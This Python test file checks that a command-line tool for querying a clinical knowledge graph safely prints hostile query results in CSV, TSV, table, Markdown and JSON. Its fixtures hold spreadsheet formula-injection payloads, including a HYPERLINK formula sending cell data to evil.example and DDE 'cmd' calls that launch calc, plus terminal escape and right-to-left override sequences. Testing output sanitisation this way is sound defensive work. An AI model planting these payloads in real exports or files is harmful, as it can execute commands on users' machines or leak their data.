"""Hostile values in query results: formulas, terminal escapes, look-alike identifiers, in every format.

A fake endpoint answers the stored query with hostile literals and IRIs, and the label query (the
second request `emkg query` sends for table/CSV/TSV/Markdown) with hostile labels. The CLI runs in
the audited subprocess; what it prints must be safe for a terminal and a spreadsheet, and must keep
different identifiers different.
"""

from __future__ import annotations

import csv
import io
import json

import pyoxigraph as ox
import pytest
from fenced import bounded, run

from emkg import output

QUERY = "patients-by-relapse-site"
CASE = "https://w3id.org/emkg/case/a-very-long-publication-slug-that-goes-on-and-on-beyond-sixty-characters/"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\u202egnp.exe\x7f"
UNSAFE_CHARACTERS = "\x1b\x07\x9b\u202e\x7f\r"


def _literal(value):
    return {"type": "literal", "value": value}


def _uri(value):
    return {"type": "uri", "value": value}


MAIN = {"head": {"vars": ["publication", "patient", "relapse", "site_found", "site_label", "marrow_involved"]},
        "results": {"bindings": [
            {"patient": _uri(CASE + "P1"), "site_label": _literal(FORMULAS[0]), "marrow_involved": _literal("-1.5"),
             "publication": _uri("https://w3id.org/emkg/publication/x"), "relapse": _uri(CASE + "P1/r")},
            {"patient": _uri(CASE + "P2"), "site_label": _literal(ESCAPES), "marrow_involved": _literal(FORMULAS[1]),
             "site_found": _uri("http://purl.obolibrary.org/obo/UBERON_0000473")},
            *({"patient": _uri(CASE + f"P{3 + i}"), "site_label": _literal(f)} for i, f in enumerate(FORMULAS[2:])),
        ]}}
LABELS = {"head": {"vars": ["iri", "text"]}, "results": {"bindings": [
    {"iri": _uri(CASE + "P1"), "text": _literal("=cmd|' /C calc'!A0")},
    {"iri": _uri(CASE + "P2"), "text": _literal(ESCAPES)},
    {"iri": _uri("https://w3id.org/emkg/publication/x"), "text": _literal("@evil")},
]}}


def _answer(conn, request, server):
    body = json.dumps(LABELS if b"MIN%28STR" in request else MAIN).encode()
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\nConnection: close\r\n"
                 b"Content-Length: %d\r\n\r\n" % len(body) + body)


@pytest.fixture
def hostile_endpoint(fake_endpoint):
    return fake_endpoint(_answer)


def _query(server, fmt, tmp_path):
    result = run(["query", QUERY, "--endpoint", server.url, "--timeout", "5", "--format", fmt], tmp_path,
                 category="output", connect=[server.port])
    assert result.code == 0, result.describe()
    bounded(result)
    assert not any(c in result.stdout for c in UNSAFE_CHARACTERS), result.describe()
    return result.stdout


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_spreadsheet_formats_neutralise_formulas(fmt, hostile_endpoint, tmp_path):
    text = _query(hostile_endpoint, fmt, tmp_path)
    rows = list(csv.reader(io.StringIO(text), delimiter="," if fmt == "csv" else "\t"))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-1.5", cell  # a plain number stays a number
    assert "'" + FORMULAS[0] in cells and "'=cmd|' /C calc'!A0" in cells and "'@evil" in cells
    assert rows[0][:4] == ["publication", "publication_label", "patient", "patient_label"]


def test_table_escapes_controls_and_keeps_long_identifiers_apart(hostile_endpoint, tmp_path):
    text = _query(hostile_endpoint, "table", tmp_path)
    assert "…" not in text
    assert "\\x1b]0;owned\\x07\\x1b[2J" in text and "\\u202e" in text
    # the ids share their first 95 characters; wrapped, never cut: each one's ending is shown
    for n in range(1, 7):
        assert any(line.split()[0].endswith(f"/P{n}") for line in text.splitlines() if line.strip()), text
    assert text.rstrip().endswith("(6 rows)")


def test_markdown_escapes_controls(hostile_endpoint, tmp_path):
    text = _query(hostile_endpoint, "markdown", tmp_path)
    lines = text.splitlines()
    assert "\\x1b[2J" in text and all(line.startswith("| ") for line in lines[:1] + lines[2:])
    assert len(lines) == 2 + 6  # one line per row: no value broke the table


def test_json_keeps_values_and_escapes_what_a_terminal_would_act_on(hostile_endpoint, tmp_path):
    text = _query(hostile_endpoint, "json", tmp_path)
    data = json.loads(text)
    assert data["head"] == MAIN["head"]  # JSON stays as it was: no label columns
    assert data["results"]["bindings"][1]["site_label"]["value"] == ESCAPES  # same string once parsed


def test_output_functions_directly():
    assert output.spreadsheet_safe("=1+1") == "'=1+1" and output.spreadsheet_safe("-3") == "-3"
    assert output.spreadsheet_safe("a\nb") == "a\nb"  # a newline inside a quoted CSV cell is data
    assert output.escape_controls("a\x1bb\u202ec") == "a\\x1bb\\u202ec"
    long_ids = [[ox.NamedNode(CASE + "P1")], [ox.NamedNode(CASE + "P2")]]
    table = output.render(["patient"], long_ids, "table")
    assert "P1" in table and "P2" in table and "…" not in table
    with_labels = output.render(["patient"], long_ids, "csv", {CASE + "P1": "first"})
    assert with_labels.splitlines()[0] == "patient,patient_label" and with_labels.splitlines()[1].endswith(",first")
